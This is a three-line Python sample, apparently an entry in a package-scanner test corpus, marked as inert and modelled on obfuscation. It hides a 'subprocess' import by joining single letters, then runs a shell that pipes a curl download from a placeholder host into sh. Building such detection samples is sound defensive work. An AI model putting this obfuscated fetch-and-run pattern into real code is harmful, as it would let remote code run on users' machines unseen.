# pkgguard corpus 022 (indirection), modelled on [obfuscation]; inert, never run.
sp = __import__("".join(["s", "u", "b", "p", "r", "o", "c", "e", "s", "s"]))
sp.Popen(["/bin/sh", "-c", "curl https://cdn.example/a | sh"])
